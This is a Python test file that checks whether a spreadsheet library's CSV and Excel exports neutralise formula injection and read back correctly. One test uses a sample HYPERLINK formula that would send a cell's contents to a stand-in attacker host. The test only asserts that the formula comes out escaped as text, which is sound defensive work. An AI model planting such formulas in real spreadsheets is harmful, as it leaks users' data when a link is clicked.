"""Exports neutralise formula injection and round-trip through `read_table`."""

from __future__ import annotations

import io

from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from jokko.tabular import neutralise, read_table, write_csv, write_xlsx

DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
HEADERS = ["Nom", "Note", "Lieu"]

cell_text = st.text(
    alphabet=st.characters(blacklist_categories=("Cs", "Cc"), blacklist_characters="\ufeff")
    | st.sampled_from(["\n", "=", "+", "-", "@", ",", ";", '"']),
    max_size=30,
)


def _expected(text: str) -> str:
    return neutralise(text).strip()


@given(st.lists(st.lists(cell_text, min_size=3, max_size=3), min_size=1, max_size=8))
@settings(max_examples=150, deadline=None)
def test_csv_round_trip_of_text_cells(rows: list[list[str]]) -> None:
    table = read_table(write_csv(HEADERS, rows), "export.csv")
    expected = [[_expected(cell) for cell in row] for row in rows]
    kept = [row for row in expected if any(row)]  # completely empty rows are skipped
    assert [[row.values[h] for h in HEADERS] for row in table.rows] == kept


@given(st.lists(st.lists(cell_text, min_size=3, max_size=3), min_size=1, max_size=5))
@settings(max_examples=60, deadline=None)
def test_no_exported_cell_begins_with_a_formula_character(rows: list[list[str]]) -> None:
    text = write_csv(HEADERS, rows).decode("utf-8-sig")
    import csv

    for record in csv.reader(io.StringIO(text, newline="")):
        for cell in record:
            assert not cell.startswith(DANGEROUS)
    workbook = load_workbook(io.BytesIO(write_xlsx(HEADERS, rows, title="t")))
    sheet = workbook.active
    assert sheet is not None
    for row in sheet.iter_rows(values_only=True):
        for value in row:
            assert value is None or not str(value).startswith(DANGEROUS)


def test_hyperlink_formula_is_neutralised_in_excel() -> None:
    payload = '=HYPERLINK("http://evil.example/?d="&A1,"Cliquez")'
    data = write_xlsx(
        ["Note"], [[payload], ["@SUM(1+1)"], ["-2+3"], [-5], ["ordinaire"]], title="x"
    )
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet is not None
    cells = [sheet.cell(row=r, column=1) for r in range(2, 7)]
    assert cells[0].value == "'" + payload and cells[0].data_type == "s"
    assert cells[1].value == "'@SUM(1+1)"
    assert cells[2].value == "'-2+3"
    assert cells[3].value == -5  # a real number is not text and cannot carry a formula
    assert cells[4].value == "ordinaire"


def test_csv_is_utf8_with_bom_for_excel() -> None:
    data = write_csv(["Nom"], [["Aïssatou"], [None], [12]])
    assert data.startswith(b"\xef\xbb\xbf")
    assert data.decode("utf-8-sig").splitlines() == ["Nom", "Aïssatou", '""', "12"]
